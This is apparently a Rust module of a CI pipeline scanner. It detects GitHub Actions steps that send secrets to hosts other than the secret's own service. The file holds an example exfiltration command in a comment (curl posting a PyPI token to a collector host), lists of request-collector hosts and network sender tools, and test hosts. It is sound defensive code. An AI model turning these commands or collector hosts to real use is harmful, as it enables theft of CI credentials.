//! `github/secret-exfiltration`: a `run:` step sends a secret — expanded as `${{ secrets.X }}`,
//! or through an `env:` variable or a shell variable set from one — with a network command
//! (curl, wget, nc, httpie, `Invoke-WebRequest`/`Invoke-RestMethod`, `python -c` with requests
//! or urllib) to a host that is not the secret's own service ([`SERVICES`]) nor allowed in
//! `github.allowed_secret_hosts`. This is what workflows pushed with a stolen maintainer token
//! do (`curl -d "$PYPI_TOKEN" https://collector.example`).
//!
//! Regular persona: a secret whose service the name gives away (PyPI, npm, the GitHub token…)
//! sent elsewhere, or any secret sent to a known collector or a bare IP address. A secret of an
//! unknown service sent to a named host is the normal "call our own API" case: auditor only.

use std::collections::BTreeMap;
use std::ops::Range;

use pipeguard_shell::{self as shell, Command, Script};

use crate::analyzers::github::expr;
use crate::analyzers::github::facts::Facts;
use crate::analyzers::github::model::{KeyValue, Seg, route_with};
use crate::analyzers::github::spans;
use crate::analyzers::rule::declare_rule;
use crate::analyzers::{Output, ScanContext};
use crate::finding::{Confidence, Persona, RawFinding, Severity};
use crate::rules::RuleId;

declare_rule!(RuleId::GithubSecretExfiltration, check);

/// A service a secret's name points to: the words of the name (split at `_`/`-`), a label, and
/// the hosts (and their subdomains) that service's tokens are meant for. A host that contains
/// one of the words (`sonar.acme.dev`, `npm.acme.dev`) counts as a self-hosted instance.
pub const SERVICES: &[(&[&str], &str, &[&str])] = &[
    (
        &["GITHUB", "GH", "GHCR", "HOMEBREW"],
        "GitHub",
        &[
            "github.com",
            "api.github.com",
            "uploads.github.com",
            "ghcr.io",
            "githubusercontent.com",
            "pkg.github.com",
            "githubapp.com",
        ],
    ),
    (
        &["NPM", "NODE", "YARN"],
        "npm",
        &["registry.npmjs.org", "npmjs.com", "npm.pkg.github.com", "registry.yarnpkg.com"],
    ),
    (&["PYPI", "TWINE", "TESTPYPI"], "PyPI", &["pypi.org", "upload.pypi.org", "test.pypi.org"]),
    (
        &["DOCKER", "DOCKERHUB"],
        "Docker Hub",
        &["docker.io", "docker.com", "hub.docker.com"],
    ),
    (&["SLACK"], "Slack", &["slack.com", "hooks.slack.com"]),
    (&["DISCORD"], "Discord", &["discord.com", "discordapp.com"]),
    (&["TEAMS", "MSTEAMS"], "Microsoft Teams", &["office.com", "office365.com", "logic.azure.com"]),
    (&["TELEGRAM"], "Telegram", &["api.telegram.org"]),
    (&["CODECOV"], "Codecov", &["codecov.io"]),
    (&["COVERALLS"], "Coveralls", &["coveralls.io"]),
    (&["CODACY"], "Codacy", &["codacy.com"]),
    (&["CODECLIMATE", "CC"], "Code Climate", &["codeclimate.com"]),
    (&["SONAR", "SONARCLOUD", "SONARQUBE"], "SonarCloud", &["sonarcloud.io"]),
    (&["SNYK"], "Snyk", &["snyk.io"]),
    (&["NETLIFY"], "Netlify", &["netlify.com", "netlify.app"]),
    (&["VERCEL"], "Vercel", &["vercel.com"]),
    (&["HEROKU"], "Heroku", &["heroku.com"]),
    (&["CLOUDFLARE", "CF"], "Cloudflare", &["cloudflare.com"]),
    (&["CARGO", "CRATES"], "crates.io", &["crates.io"]),
    (&["RUBYGEMS", "GEM"], "RubyGems", &["rubygems.org"]),
    (&["NUGET"], "NuGet", &["nuget.org"]),
    (&["ANACONDA", "CONDA"], "Anaconda", &["anaconda.org"]),
    (&["CACHIX"], "Cachix", &["cachix.org"]),
    (&["GITLAB"], "GitLab", &["gitlab.com"]),
    (&["SENTRY"], "Sentry", &["sentry.io"]),
    (&["DATADOG", "DD"], "Datadog", &["datadoghq.com", "datadoghq.eu"]),
    (&["OPENAI"], "OpenAI", &["openai.com"]),
    (&["ANTHROPIC", "CLAUDE"], "Anthropic", &["anthropic.com"]),
    (&["CROWDIN"], "Crowdin", &["crowdin.com"]),
    (&["READTHEDOCS", "RTD"], "Read the Docs", &["readthedocs.org", "readthedocs.com"]),
    (&["SONATYPE", "OSSRH", "MAVEN"], "Maven Central", &["sonatype.org", "sonatype.com"]),
    (&["GRADLE"], "Gradle", &["gradle.org", "gradle.com"]),
    (&["CHOCOLATEY", "CHOCO"], "Chocolatey", &["chocolatey.org"]),
    (&["VSCE", "VSCODE", "MARKETPLACE"], "VS Marketplace", &["visualstudio.com"]),
    (&["OVSX", "OPENVSX"], "Open VSX", &["open-vsx.org"]),
    (&["JETBRAINS"], "JetBrains Marketplace", &["jetbrains.com"]),
    (&["DIGITALOCEAN"], "DigitalOcean", &["digitalocean.com"]),
    (&["AWS"], "AWS", &["amazonaws.com", "aws.amazon.com"]),
    (&["GCP", "GCLOUD", "GOOGLE", "FIREBASE"], "Google Cloud", &["googleapis.com", "google.com"]),
    (&["AZURE"], "Azure", &["azure.com", "windows.net", "microsoft.com", "azure.net"]),
    (&["JIRA", "ATLASSIAN", "CONFLUENCE"], "Atlassian", &["atlassian.net", "atlassian.com"]),
];

/// Hosts that only collect what is sent to them (request bins, tunnels, paste sites): any
/// secret sent there is exfiltrated.
const COLLECTORS: &[&str] = &[
    "webhook.site",
    "requestbin.com",
    "requestbin.net",
    "pipedream.net",
    "m.pipedream.net",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "interact.sh",
    "oast.fun",
    "oast.live",
    "oast.me",
    "oast.online",
    "oast.pro",
    "oast.site",
    "burpcollaborator.net",
    "oastify.com",
    "beeceptor.com",
    "hookbin.com",
    "pastebin.com",
    "transfer.sh",
    "trycloudflare.com",
    "requestcatcher.com",
    "canarytokens.com",
];

/// Programs that send their arguments over the network.
const SENDERS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "http",
    "https",
    "xh",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr",
    "irm",
];

/// The service a secret's name points to, by the words of the name.
fn service_of(secret: &str) -> Option<&'static (&'static [&'static str], &'static str, &'static [&'static str])> {
    let upper = secret.to_ascii_uppercase();
    let words: Vec<&str> = upper.split(['_', '-']).filter(|w| !w.is_empty()).collect();
    SERVICES
        .iter()
        .find(|(keys, _, _)| keys.iter().any(|k| words.contains(k)))
}

fn host_matches(host: &str, pattern: &str) -> bool {
    let p = pattern.trim().trim_start_matches("*.").trim_start_matches('.').to_ascii_lowercase();
    !p.is_empty() && (host == p || host.ends_with(&format!(".{p}")))
}

/// A dotted-quad IPv4 address or a bracketed IPv6 one.
fn is_ip(host: &str) -> bool {
    host.starts_with('[')
        || (host.split('.').count() == 4
            && host.split('.').all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit())))
}

/// The host of a URL or `host[:port][/path]` word, lower-cased; `None` when it is computed.
fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let authority = rest
        .split(['/', '?', '#', '"', '\'', ' ', ')', ','])
        .next()
        .unwrap_or(rest);
    let authority = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = if authority.starts_with('[') {
        authority.split_inclusive(']').next().unwrap_or(authority)
    } else {
        authority.split(':').next().unwrap_or(authority)
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let ok = !host.is_empty()
        && host.contains('.')
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'[' | b']' | b':'));
    ok.then_some(host)
}

/// `$NAME`, `${NAME…}`, `$env:NAME`, `%NAME%` occurrences in raw shell text.
fn var_refs(raw: &str) -> Vec<String> {
    let b = raw.as_bytes();
    let mut out = Vec::new();
    let ident = |s: &[u8], from: usize| {
        let mut j = from;
        while j < s.len() && (s[j].is_ascii_alphanumeric() || s[j] == b'_') {
            j += 1;
        }
        j
    };
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' {
            let mut s = i + 1;
            if b.get(s) == Some(&b'{') {
                s += 1;
            } else if raw.get(s..s + 4).is_some_and(|x| x.eq_ignore_ascii_case("env:")) {
                s += 4;
            }
            let e = ident(b, s);
            if e > s && !b[s].is_ascii_digit() {
                out.push(raw[s..e].to_string());
            }
            i = e.max(i + 1);
        } else if b[i] == b'%' {
            let e = ident(b, i + 1);
            if e > i + 1 && b.get(e) == Some(&b'%') {
                out.push(raw[i + 1..e].to_string());
            }
            i = e.max(i + 1);
        } else {
            i += 1;
        }
    }
    out
}

/// A blanked `${{ }}`: its range in the script and the secrets it expands.
type Blanked = (Range<usize>, Vec<String>);

/// The script with every `${{ … }}` blanked to `x`s of the same length (so the shell sees one
/// literal word and spans stay valid), and the secrets each blanked range expands.
fn blank_expressions(run: &str) -> (String, Vec<Blanked>) {
    let mut text = run.as_bytes().to_vec();
    let mut sites = Vec::new();
    for s in expr::find(run, 0) {
        let body = &run[s.body.clone()];
        let mut names = expr::secret_names(body);
        if expr::all_contexts(body).iter().any(|c| c == "github.token") {
            names.push("GITHUB_TOKEN".into());
        }
        for b in &mut text[s.range.clone()] {
            *b = b'x';
        }
        sites.push((s.range, names));
    }
    (String::from_utf8(text).unwrap_or_else(|_| run.to_string()), sites)
}

/// Variables (env and shell) bound to a secret in a step, by name (case kept as written).
struct Bindings {
    vars: BTreeMap<String, String>,
    /// Literal values of env variables, to resolve `$URL` hosts.
    literals: BTreeMap<String, String>,
}

impl Bindings {
    fn new(scopes: &[&[KeyValue]]) -> Bindings {
        let mut b = Bindings {
            vars: BTreeMap::new(),
            literals: BTreeMap::new(),
        };
        // Wider scope first: a narrower redefinition replaces the binding.
        for kvs in scopes {
            for kv in *kvs {
                b.vars.remove(&kv.name);
                b.literals.remove(&kv.name);
                let mut names = Vec::new();
                for s in expr::find(&kv.value, 0) {
                    let body = &kv.value[s.body.clone()];
                    names.extend(expr::secret_names(body));
                    if expr::all_contexts(body).iter().any(|c| c == "github.token") {
                        names.push("GITHUB_TOKEN".into());
                    }
                }
                if let Some(n) = names.into_iter().next() {
                    b.vars.insert(kv.name.clone(), n);
                } else if !kv.value.contains("${{") {
                    b.literals.insert(kv.name.clone(), kv.value.clone());
                }
            }
        }
        b
    }

    /// The secrets raw shell text carries: blanked expressions in `span`, variables bound to one.
    fn secrets_in(&self, raw: &str, span: &Range<usize>, sites: &[Blanked]) -> Vec<String> {
        let mut out: Vec<String> = Vec::new();
        for (r, names) in sites {
            if r.start < span.end && span.start < r.end {
                out.extend(names.iter().cloned());
            }
        }
        for v in var_refs(raw.get(span.clone()).unwrap_or_default()) {
            if let Some(s) = self.vars.get(&v) {
                out.push(s.clone());
            }
        }
        out.sort();
        out.dedup();
        out
    }
}

/// The program of a sender command, lower-cased, with `python -c` code that sends.
fn sender(cmd: &Command) -> Option<String> {
    let p = cmd.program()?.to_ascii_lowercase();
    let p = p.trim_end_matches(".exe").to_string();
    if SENDERS.contains(&p.as_str()) {
        return Some(p);
    }
    if p.starts_with("python") && cmd.has_flag(Some('c'), None) {
        let code = cmd.flag_value(Some('c'), None)?.text.to_ascii_lowercase();
        let sends = ["requests.", "urllib", "http.client", "httpx."].iter().any(|w| code.contains(w));
        return sends.then(|| format!("{p} -c"));
    }
    None
}

/// Where a sender command sends: the first URL in its words, else (nc) the first operand, else
/// an operand that is one variable with a literal value in `env:`. `Err`: the address itself
/// comes from a secret (a webhook URL: the secret's own endpoint); `Ok(None)`: computed.
/// The word's span comes with the host.
fn destination(
    cmd: &Command,
    script_text: &str,
    b: &Bindings,
    sites: &[Blanked],
) -> Result<Option<(String, Range<usize>)>, ()> {
    let words = cmd.args();
    let prog = cmd.program().unwrap_or_default().to_ascii_lowercase();
    let url_word = words
        .iter()
        .find(|w| w.text.contains("://"))
        .or_else(|| positional(words, &prog));
    let Some(w) = url_word else { return Ok(None) };
    let raw = script_text.get(w.span.clone()).unwrap_or_default();
    // The scheme and authority of the word (up to the first `/` or `?` after `://`).
    let lead = raw.len() - raw.trim_start_matches(['"', '\'']).len();
    let from = lead + raw[lead..].find("://").map_or(0, |i| i + 3);
    let len = raw[from..].find(['/', '?', ' ', '"', '\'']).unwrap_or(raw.len() - from);
    let head = w.span.start..w.span.start + from + len.max(1);
    if !b.secrets_in(script_text, &head, sites).is_empty() {
        return Err(());
    }
    if sites.iter().any(|(r, _)| r.start < head.end && head.start < r.end) {
        return Ok(None);
    }
    let mut text = w.text.clone();
    if let Some(rest) = text.strip_prefix('$') {
        let name: String = rest
            .trim_start_matches('{')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        match b.literals.get(&name) {
            Some(v) => text.clone_from(v),
            None => return Ok(None),
        }
    }
    let url = match text.find("://") {
        Some(i) => &text[i..],
        None => text.as_str(),
    };
    Ok(host_of(url).map(|h| (h, w.span.clone())))
}

/// Options of the senders that take a separate value (so the value is not the address).
const CURL_VALUE: &[&str] = &[
    "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--json", "-H", "--header",
    "-u", "--user", "-X", "--request", "-o", "--output", "-F", "--form", "-A", "--user-agent",
    "-e", "--referer", "-b", "--cookie", "-c", "--cookie-jar", "-T", "--upload-file", "-w",
    "--write-out", "-m", "--max-time", "--retry", "--connect-timeout", "-K", "--config",
    "--cacert", "--cert", "--key", "-x", "--proxy",
];
const WGET_VALUE: &[&str] = &[
    "-O", "--output-document", "-o", "--output-file", "-P", "--directory-prefix", "-t",
    "--tries", "-T", "--timeout", "--header", "--post-data", "--post-file", "--body-data",
    "--method", "--user", "--password", "-U", "--user-agent",
];
const PWSH_VALUE: &[&str] = &[
    "-method", "-body", "-headers", "-contenttype", "-outfile", "-infile", "-credential",
    "-form", "-useragent", "-timeoutsec",
];

/// The first positional argument of a sender (the address): after `--url`/`-Uri`, else the
/// first word that is neither an option nor an option's value. nc: host then port.
fn positional<'w>(words: &'w [pipeguard_shell::Word], prog: &str) -> Option<&'w pipeguard_shell::Word> {
    let flags: &[&str] = match prog {
        "curl" => CURL_VALUE,
        "wget" => WGET_VALUE,
        "invoke-webrequest" | "invoke-restmethod" | "iwr" | "irm" => PWSH_VALUE,
        _ => &[],
    };
    let mut i = 0;
    while i < words.len() {
        let t = words[i].text.as_str();
        if t.eq_ignore_ascii_case("--url") || t.eq_ignore_ascii_case("-uri") {
            return words.get(i + 1);
        }
        if t.starts_with('-') && t.len() > 1 {
            let pwsh = flags == PWSH_VALUE;
            let takes = flags.iter().any(|f| if pwsh { f.eq_ignore_ascii_case(t) } else { *f == t });
            i += if takes { 2 } else { 1 };
            continue;
        }
        // httpie: `http POST host …`
        if matches!(prog, "http" | "https" | "xh")
            && matches!(t.to_ascii_lowercase().as_ref(), "get" | "post" | "put" | "patch" | "delete" | "head")
        {
            i += 1;
            continue;
        }
        return Some(&words[i]);
    }
    None
}

/// Secrets sent by earlier stages of the pipeline into `cmd` (`echo "$T" | curl -d @- …`).
fn piped_secrets(
    script: &Script,
    cmd: &Command,
    text: &str,
    b: &Bindings,
    sites: &[Blanked],
) -> Vec<String> {
    script
        .pipeline(cmd.pipeline)
        .take(cmd.stage)
        .flat_map(|c| b.secrets_in(text, &c.span, sites))
        .collect()
}

pub fn check(a: &Facts<'_, '_>, cx: &ScanContext<'_>, out: &mut Output) {
    let m = a.m;
    let allowed = &cx.config.github.allowed_secret_hosts;
    for job in &m.jobs {
        for step in &job.steps {
            let Some(run) = step.run.as_deref() else { continue };
            let lower = run.to_ascii_lowercase();
            let sends = ["curl", "wget", "nc ", "ncat", "netcat", "http", "xh ", "invoke-", "iwr", "irm", "python"]
                .iter()
                .any(|w| lower.contains(w));
            if !sends {
                continue;
            }
            let mut b = Bindings::new(&[&m.env, &job.env, &step.env]);
            if b.vars.is_empty() && !lower.contains("secrets.") && !lower.contains("github.token") {
                continue;
            }
            let (text, sites) = blank_expressions(run);
            let script = shell::parse(&text);
            // Shell variables set from a secret (`T=${{ secrets.X }}`, `export T="$X"`).
            for (name, w) in &script.statement_assignments {
                // `URL="https://api.github.com/…"`: a literal address for `curl $URL`.
                if w.text.contains("://") {
                    b.literals.insert(name.clone(), w.text.clone());
                }
                if let Some(s) = b.secrets_in(&text, &w.span, &sites).into_iter().next() {
                    b.vars.insert(name.clone(), s);
                }
            }
            for c in &script.commands {
                if matches!(c.name(), Some("export" | "declare" | "local" | "readonly")) {
                    for w in c.words.iter().skip(1) {
                        if let Some((name, _)) = w.text.split_once('=')
                            && let Some(s) = b.secrets_in(&text, &w.span, &sites).into_iter().next()
                        {
                            b.vars.insert(name.to_string(), s);
                        }
                    }
                }
            }
            let run_bytes = m.value_bytes(&route_with(&step.route, Seg::Key("run".into())));
            for cmd in &script.commands {
                let Some(prog) = sender(cmd) else { continue };
                let Ok(dest) = destination(cmd, &text, &b, &sites) else { continue };
                // The secrets in the command's words other than the address, and piped in.
                let mut secrets: Vec<String> = Vec::new();
                for w in cmd.args() {
                    if dest.as_ref().is_some_and(|(_, r)| *r == w.span) {
                        // A secret in the URL's path or query still travels to the host.
                        let raw = text.get(w.span.clone()).unwrap_or_default();
                        let path_from = raw.find("://").map_or(0, |i| i + 3);
                        let Some(p) = raw[path_from..].find(['/', '?']) else { continue };
                        let tail = w.span.start + path_from + p..w.span.end;
                        secrets.extend(b.secrets_in(&text, &tail, &sites));
                        continue;
                    }
                    secrets.extend(b.secrets_in(&text, &w.span, &sites));
                }
                secrets.extend(piped_secrets(&script, cmd, &text, &b, &sites));
                secrets.sort();
                secrets.dedup();
                if secrets.is_empty() {
                    continue;
                }
                let Some(verdict) = judge(&secrets, dest.as_ref().map(|(h, _)| h.as_str()), allowed) else {
                    continue;
                };
                let bytes = spans::map_range(m, &run_bytes, run, &cmd.span);
                let names = secrets.iter().map(|s| format!("`{s}`")).collect::<Vec<_>>().join(", ");
                let to = match &dest {
                    Some((h, _)) => format!("`{h}`"),
                    None => "an address computed at run time".into(),
                };
                let mut f = RawFinding::new(
                    ID,
                    m.file,
                    bytes,
                    format!(
                        "step `{}` sends the secret {names} with `{prog}` to {to}{}: whoever runs that host gets the secret; send it only to its own service, or add the host to `github.allowed_secret_hosts`",
                        step.label(),
                        verdict.why
                    ),
                )
                .severity(verdict.severity)
                .content(format!(
                    "{} {} {prog} {} {}",
                    job.id,
                    step.label(),
                    secrets.join(","),
                    dest.as_ref().map_or("?", |(h, _)| h.as_str())
                ))
                .property("host", dest.as_ref().map_or(String::new(), |(h, _)| h.clone()));
                if let Some(p) = verdict.persona {
                    f = f.persona(p);
                }
                f = f.confidence(verdict.confidence);
                out.push(f);
            }
        }
    }
}

struct Verdict {
    why: String,
    severity: Severity,
    persona: Option<Persona>,
    confidence: Confidence,
}

/// Whether sending `secrets` to `host` is reported, and how.
fn judge(secrets: &[String], host: Option<&str>, allowed: &[String]) -> Option<Verdict> {
    let Some(host) = host else {
        // Unknown destination: worth a look only when auditing.
        return Some(Verdict {
            why: String::new(),
            severity: Severity::Low,
            persona: Some(Persona::Auditor),
            confidence: Confidence::Low,
        });
    };
    if allowed.iter().any(|p| host_matches(host, p)) {
        return None;
    }
    if COLLECTORS.iter().any(|c| host_matches(host, c)) || is_ip(host) {
        return Some(Verdict {
            why: if is_ip(host) {
                ", a bare IP address".into()
            } else {
                ", a request collector".into()
            },
            severity: Severity::Critical,
            persona: None,
            confidence: Confidence::High,
        });
    }
    // Known services: sent elsewhere than the service's hosts (or a self-hosted instance whose
    // name holds the service's word).
    let mut foreign: Vec<&str> = Vec::new();
    let mut unknown = false;
    for s in secrets {
        match service_of(s) {
            Some((keys, label, hosts)) => {
                let own = hosts.iter().any(|h| host_matches(host, h))
                    || keys
                        .iter()
                        .any(|k| k.len() >= 3 && host.split(['.', '-']).any(|l| {
                            let l = l.to_ascii_uppercase();
                            l == *k || (k.len() >= 4 && l.starts_with(k))
                        }));
                if !own {
                    foreign.push(label);
                }
            }
            None => unknown = true,
        }
    }
    if let Some(label) = foreign.first() {
        return Some(Verdict {
            why: format!(", which is not a host of {label}"),
            severity: Severity::High,
            persona: None,
            confidence: Confidence::Medium,
        });
    }
    unknown.then(|| Verdict {
        why: ", a host not on the allowlist".into(),
        severity: Severity::Low,
        persona: Some(Persona::Auditor),
        confidence: Confidence::Low,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts() {
        assert_eq!(host_of("https://user:p@API.github.com:443/x?y").as_deref(), Some("api.github.com"));
        assert_eq!(host_of("evil.example/x").as_deref(), Some("evil.example"));
        assert!(host_of("$URL/x").is_none());
        assert!(is_ip("45.139.104.115"));
        assert!(host_matches("uploads.github.com", "github.com"));
        assert!(!host_matches("notgithub.com", "github.com"));
        assert_eq!(var_refs("a $X ${Y:-z} $env:Z %W% $1"), ["X", "Y", "Z", "W"]);
    }

    #[test]
    fn services() {
        assert_eq!(service_of("PYPI_API_TOKEN").map(|s| s.1), Some("PyPI"));
        assert_eq!(service_of("GH_PAT").map(|s| s.1), Some("GitHub"));
        assert!(service_of("DEPLOY_KEY").is_none());
        let allow: Vec<String> = Vec::new();
        assert!(judge(&["NPM_TOKEN".into()], Some("registry.npmjs.org"), &allow).is_none());
        assert!(judge(&["SONAR_TOKEN".into()], Some("sonar.acme.dev"), &allow).is_none());
        assert!(judge(&["NPM_TOKEN".into()], Some("collector.example"), &allow).is_some());
        assert!(judge(&["NPM_TOKEN".into()], Some("collector.example"), &["other.example".into()]).is_some());
        assert!(judge(&["NPM_TOKEN".into()], Some("collector.example"), &["collector.example".into()]).is_none());
    }
}
